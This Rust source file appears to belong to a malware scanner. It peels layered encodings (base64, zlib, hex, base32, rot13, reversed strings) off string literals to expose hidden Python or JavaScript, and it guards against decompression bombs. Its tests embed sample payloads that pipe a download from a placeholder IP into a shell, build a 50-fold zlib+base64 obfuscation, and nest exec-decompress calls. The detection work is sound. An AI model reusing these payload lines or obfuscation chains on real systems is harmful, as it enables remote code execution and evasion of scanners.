//! Payloads hidden in string literals, decoded without running anything.
//!
//! Malware ships its real code encoded: `exec(base64.b64decode("aW1wb3J0IG9z..."))`,
//! `exec(zlib.decompress(b"x\x9c..."))`, dozens of base64+zlib layers, hex, base32, reversed
//! strings. The emitter notes long string literals ([`is_candidate`]); [`decode`] peels layers
//! off one at a time (each one bounded in size) until what is left parses as Python or
//! JavaScript, and the compiler turns that into child objects named `<decoded:L12>`, which the
//! model scores like any other code. Nothing is evaluated: a layer is decoded only when its
//! bytes have the exact shape of the encoding.

use std::io::Read;

use crate::language::Language;

/// Shorter literals are names, messages and keys, not payloads.
pub const MIN_CANDIDATE_LEN: usize = 24;
/// Layers peeled off one literal (real stealers wrap 64 to 128 layers of zlib+base64).
pub const MAX_LAYERS: usize = 160;
/// No layer may grow past this: a decompression bomb stops here.
pub const MAX_OUTPUT: usize = 4 << 20;
/// Bytes one literal's layers may add up to (160 layers of 4 MB would be a slow way to fail).
pub const MAX_WORK: usize = 64 << 20;
/// Decoded code one file may produce, all levels together: each level could otherwise hold
/// `MAX_PAYLOADS_PER_FILE` payloads of its own, a bomb that grows with every level.
pub const MAX_DECODED_PER_FILE: usize = 2 << 20;
/// Decoded code that itself holds encoded code: this many levels of child objects.
pub const MAX_CODE_DEPTH: u32 = 4;
/// Literals decoded per file (the longest first would be better; the first ones suffice).
pub const MAX_PAYLOADS_PER_FILE: usize = 32;

/// A payload that decoded to code.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Decoded {
    pub text: String,
    pub language: Language,
    /// The decodings applied, outermost first: `["base64", "zlib"]`.
    pub chain: Vec<&'static str>,
    /// A layer hit `MAX_OUTPUT` and was cut there.
    pub truncated: bool,
}

/// Whether a string literal is worth trying: long, and without the spaces of prose or code
/// (an encoded payload has none, except line breaks in wrapped base64).
pub fn is_candidate(value: &str) -> bool {
    value.len() >= MIN_CANDIDATE_LEN && !value.contains(' ')
}

/// Folded expressions shorter than this are not worth decoding.
pub const MIN_FOLDED_LEN: usize = 8;

/// Decodes layer after layer until the result is code in either language (`preferred` first).
pub fn decode(value: &str, preferred: Language) -> Option<Decoded> {
    decode_from(value, preferred, false)
}

/// The same for a value that constant folding built (`folded`): it may be code as it is, and
/// its chain starts with `folded`.
pub fn decode_from(value: &str, preferred: Language, folded: bool) -> Option<Decoded> {
    // A bytes literal (`b"x\x9c..."`) arrives as characters up to U+00FF: its bytes are those.
    let mut data: Vec<u8> = if value.chars().all(|c| (c as u32) < 256) {
        value.chars().map(|c| c as u8).collect()
    } else {
        value.as_bytes().to_vec()
    };
    let mut chain = if folded { vec!["folded"] } else { Vec::new() };
    let mut truncated = false;
    let mut work = data.len();
    for _ in 0..MAX_LAYERS {
        if !chain.is_empty() {
            if let Some(language) = code_language(&data, preferred) {
                return Some(Decoded { text: String::from_utf8(data).ok()?, language, chain, truncated });
            }
        }
        let (next, name, cut) = peel(&data)?;
        truncated |= cut;
        work += next.len();
        if work > MAX_WORK {
            return None;
        }
        data = next;
        chain.push(name);
    }
    let language = code_language(&data, preferred)?;
    Some(Decoded { text: String::from_utf8(data).ok()?, language, chain, truncated })
}

/// One layer: the decoding whose shape the bytes have, if any.
fn peel(data: &[u8]) -> Option<(Vec<u8>, &'static str, bool)> {
    if let Some((out, cut)) = decompress(data) {
        return Some((out.0, out.1, cut));
    }
    let compact: Vec<u8> = data.iter().copied().filter(|b| !b.is_ascii_whitespace()).collect();
    if compact.len() < 16 {
        return None;
    }
    if compact.len() % 2 == 0 && compact.iter().all(u8::is_ascii_hexdigit) {
        return Some((hex_decode(&compact)?, "hex", false));
    }
    if let Some(out) = base64_decode(&compact) {
        return Some((out, "base64", false));
    }
    if let Some(out) = base32_decode(&compact) {
        return Some((out, "base32", false));
    }
    // `exec(b64decode(s[::-1]))`: padding at the front means the string was reversed.
    if compact.first() == Some(&b'=') {
        let reversed: Vec<u8> = compact.iter().rev().copied().collect();
        if let Some(out) = base64_decode(&reversed) {
            return Some((out, "reversed+base64", false));
        }
    }
    if compact.iter().all(u8::is_ascii_graphic) && compact.iter().any(u8::is_ascii_alphabetic) {
        // rot13 keeps punctuation, so any code-shaped string "decodes": it counts only when the
        // rotation brings in the words of code that the original lacks.
        let rotated = rot13(data);
        if code_words(data) == 0 && code_words(&rotated) >= 2 && code_language(&rotated, Language::Python).is_some() {
            return Some((rotated, "rot13", false));
        }
    }
    None
}

/// How many words typical of (malicious) code occur in `data`.
fn code_words(data: &[u8]) -> usize {
    const WORDS: [&[u8]; 14] = [
        b"import ",
        b"exec(",
        b"eval(",
        b"require(",
        b"subprocess",
        b"os.",
        b"socket",
        b"base64",
        b"http",
        b"def ",
        b"function",
        b"return",
        b"open(",
        b"system(",
    ];
    WORDS.iter().filter(|word| data.windows(word.len()).any(|window| window == **word)).count()
}

/// zlib or gzip, recognised by their headers, inflated up to `MAX_OUTPUT`.
fn decompress(data: &[u8]) -> Option<((Vec<u8>, &'static str), bool)> {
    let (reader, name): (Box<dyn Read + '_>, &'static str) = if data.len() >= 2 && data[0] == 0x1f && data[1] == 0x8b {
        (Box::new(flate2::read::GzDecoder::new(data)), "gzip")
    } else if data.len() >= 2 && data[0] & 0x0f == 8 && (u16::from(data[0]) << 8 | u16::from(data[1])) % 31 == 0 {
        (Box::new(flate2::read::ZlibDecoder::new(data)), "zlib")
    } else {
        return None;
    };
    let mut out = Vec::new();
    let read = reader.take(MAX_OUTPUT as u64 + 1).read_to_end(&mut out);
    if read.is_err() && out.is_empty() {
        return None;
    }
    let cut = out.len() > MAX_OUTPUT;
    out.truncate(MAX_OUTPUT);
    Some(((out, name), cut))
}

fn hex_decode(data: &[u8]) -> Option<Vec<u8>> {
    fn nibble(b: u8) -> Option<u8> {
        (b as char).to_digit(16).map(|d| d as u8)
    }
    data.chunks(2).map(|pair| Some(nibble(pair[0])? << 4 | nibble(pair[1])?)).collect()
}

/// Standard or URL-safe base64, padding optional; `None` unless every byte is of the alphabet.
fn base64_decode(data: &[u8]) -> Option<Vec<u8>> {
    let body = data.strip_suffix(b"==").or_else(|| data.strip_suffix(b"=")).unwrap_or(data);
    if body.len() % 4 == 1 {
        return None;
    }
    let mut out = Vec::with_capacity(body.len() * 3 / 4);
    let (mut buffer, mut bits) = (0u32, 0u32);
    for &b in body {
        let value = match b {
            b'A'..=b'Z' => b - b'A',
            b'a'..=b'z' => b - b'a' + 26,
            b'0'..=b'9' => b - b'0' + 52,
            b'+' | b'-' => 62,
            b'/' | b'_' => 63,
            _ => return None,
        };
        buffer = buffer << 6 | u32::from(value);
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push((buffer >> bits) as u8);
        }
    }
    Some(out)
}

fn base32_decode(data: &[u8]) -> Option<Vec<u8>> {
    if data.len() % 8 != 0 {
        return None;
    }
    let body = data.iter().rposition(|&b| b != b'=').map_or(&data[..0], |end| &data[..=end]);
    let mut out = Vec::with_capacity(body.len() * 5 / 8);
    let (mut buffer, mut bits) = (0u64, 0u32);
    for &b in body {
        let value = match b {
            b'A'..=b'Z' => b - b'A',
            b'2'..=b'7' => b - b'2' + 26,
            _ => return None,
        };
        buffer = buffer << 5 | u64::from(value);
        bits += 5;
        if bits >= 8 {
            bits -= 8;
            out.push((buffer >> bits) as u8);
        }
    }
    Some(out)
}

fn rot13(data: &[u8]) -> Vec<u8> {
    data.iter()
        .map(|&b| match b {
            b'a'..=b'z' => (b - b'a' + 13) % 26 + b'a',
            b'A'..=b'Z' => (b - b'A' + 13) % 26 + b'A',
            _ => b,
        })
        .collect()
}

/// The language `data` is code in, if any: printable UTF-8 that parses without errors and
/// does something (a call, an import or an assignment), not a word or a number.
pub fn code_language(data: &[u8], preferred: Language) -> Option<Language> {
    let text = std::str::from_utf8(data).ok()?;
    let trimmed = text.trim();
    if trimmed.len() < 8 || !trimmed.contains(['(', '=']) {
        return None;
    }
    // Base64 can parse as JavaScript (`eJw+x/y=z`): text made of its alphabet is another layer.
    if trimmed.bytes().all(|b| b.is_ascii_alphanumeric() || b"+/=-_\r\n".contains(&b)) {
        return None;
    }
    let printable = text.chars().filter(|c| !c.is_control() || c.is_whitespace()).count();
    if printable * 100 < text.chars().count() * 97 {
        return None;
    }
    let other = if preferred == Language::Python { Language::JavaScript } else { Language::Python };
    [preferred, other].into_iter().find(|&language| {
        crate::parse::parse(text, language).is_ok_and(|tree| {
            let root = tree.root_node();
            !root.has_error() && root.named_child_count() > 0
        })
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write;

    pub(super) fn b64(data: &[u8]) -> String {
        const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut out = String::new();
        for chunk in data.chunks(3) {
            let n = chunk.iter().fold(0u32, |acc, &b| acc << 8 | u32::from(b)) << (8 * (3 - chunk.len()));
            for i in 0..4 {
                out.push(if i <= chunk.len() { ALPHABET[(n >> (18 - 6 * i)) as usize & 63] as char } else { '=' });
            }
        }
        out
    }

    pub(super) fn zlib(data: &[u8]) -> Vec<u8> {
        let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        encoder.write_all(data).unwrap();
        encoder.finish().unwrap()
    }

    const PAYLOAD: &str = "import os\nos.system('curl http://198.51.100.7/x | sh')\n";

    #[test]
    fn base64_of_code_decodes() {
        let decoded = decode(&b64(PAYLOAD.as_bytes()), Language::Python).unwrap();
        assert_eq!(decoded.text, PAYLOAD);
        assert_eq!(decoded.chain, ["base64"]);
        assert_eq!(decoded.language, Language::Python);
    }

    #[test]
    fn nested_chains_peel_in_order() {
        // base64(zlib(hex(base64(payload)))): hex and base64 of code are text, not code.
        let inner = b64(PAYLOAD.as_bytes());
        let hexed: String = inner.bytes().map(|b| format!("{b:02x}")).collect();
        let outer = b64(&zlib(hexed.as_bytes()));
        let decoded = decode(&outer, Language::Python).unwrap();
        assert_eq!(decoded.chain, ["base64", "zlib", "hex", "base64"]);
        assert_eq!(decoded.text, PAYLOAD);
    }

    pub(super) fn layered() -> String {
        let mut layer = PAYLOAD.as_bytes().to_vec();
        for _ in 0..50 {
            layer = b64(&zlib(&layer)).into_bytes();
        }
        String::from_utf8(layer).unwrap()
    }

    #[test]
    fn a_hundred_layers_of_zlib_and_base64() {
        let decoded = decode(&layered(), Language::Python).unwrap();
        assert_eq!(decoded.chain.len(), 100);
        assert_eq!(decoded.text, PAYLOAD);
    }

    #[test]
    fn bytes_literal_with_zlib_data() {
        let compressed = zlib(PAYLOAD.as_bytes());
        let as_chars: String = compressed.iter().map(|&b| b as char).collect();
        assert_eq!(decode(&as_chars, Language::Python).unwrap().chain, ["zlib"]);
    }

    #[test]
    fn javascript_payloads_are_recognised_as_javascript() {
        let js = "require('child_process').exec('curl http://198.51.100.7/x | sh');";
        let decoded = decode(&b64(js.as_bytes()), Language::JavaScript).unwrap();
        assert_eq!(decoded.language, Language::JavaScript);
        let reversed: String = b64(js.as_bytes()).chars().rev().collect();
        assert_eq!(decode(&reversed, Language::JavaScript).unwrap().chain, ["reversed+base64"]);
    }

    #[test]
    fn base32_and_rot13() {
        assert_eq!(base32_decode(b"NBSWY3DP").unwrap(), b"hello");
        assert_eq!(base32_decode(b"NBSWY3DPEE======").unwrap(), b"hello!");
        let rotated = String::from_utf8(rot13(PAYLOAD.as_bytes())).unwrap();
        assert_eq!(decode(&rotated, Language::Python).unwrap().chain, ["rot13"]);
    }

    #[test]
    fn ordinary_strings_are_left_alone() {
        for value in [
            "ThisIsAVeryLongIdentifierWithoutSpaces",
            "https://example.org/some/long/path/to/a/resource.json",
            "0123456789abcdef0123456789abcdef", // a hash: hex of bytes that are not text
            "aGVsbG8gd29ybGQsIGhvdyBhcmUgeW91IHRvZGF5Pw==", // base64 of prose
            "c2VjcmV0X3Rva2VuXzEyMzQ1Njc4OTA=", // base64 of a word
        ] {
            assert_eq!(decode(value, Language::Python), None, "{value}");
        }
    }

    #[test]
    fn a_decompression_bomb_stops_at_the_limit() {
        let bomb = zlib(&vec![b'a'; MAX_OUTPUT * 4]);
        let ((out, name), cut) = decompress(&bomb).unwrap();
        assert_eq!(name, "zlib");
        assert!(cut && out.len() == MAX_OUTPUT);
        assert_eq!(decode(&b64(&bomb), Language::Python), None, "truncated junk is not code");
    }

    #[test]
    fn candidates_are_long_and_without_spaces() {
        assert!(is_candidate(&"A".repeat(MIN_CANDIDATE_LEN)));
        assert!(!is_candidate("short"));
        assert!(!is_candidate("a sentence that is long enough but has spaces"));
    }
}

#[cfg(test)]
mod bomb_tests {
    use super::tests::{b64, zlib};
    use super::MAX_DECODED_PER_FILE;
    use crate::{compile_source, FeaturizerConfig, Language};

    /// Code holding 32 compressed copies of the level below, three levels deep: a small file
    /// that would decode to 32^3 copies of 30 KB (1 GB) without the per-file budget.
    #[test]
    fn nested_payload_fan_out_stays_within_the_file_budget() {
        let mut level = format!("import os\nos.system('id')\n{}", "x = 1\n".repeat(5_000));
        for _ in 0..3 {
            let literal = b64(&zlib(level.as_bytes()));
            level = (0..32).map(|i| format!("exec(decompress(b64decode('{literal}')))  # {i}\n")).collect();
        }
        assert!(level.len() < 1 << 20, "the bomb itself is small: {}", level.len());
        let started = std::time::Instant::now();
        let objects =
            compile_source(level.as_bytes(), Language::Python, "bomb.py", &FeaturizerConfig::default()).unwrap();
        let decoded: usize = objects
            .iter()
            .filter(|o| o.decoded_from().is_some() && o.name.ends_with('>'))
            .map(|o| o.source_code().len())
            .sum();
        assert!(decoded <= MAX_DECODED_PER_FILE, "{decoded}");
        assert!(objects.iter().any(|o| o.decoded_from().is_some()));
        assert!(started.elapsed().as_secs() < 120, "{:?}", started.elapsed());
    }
}
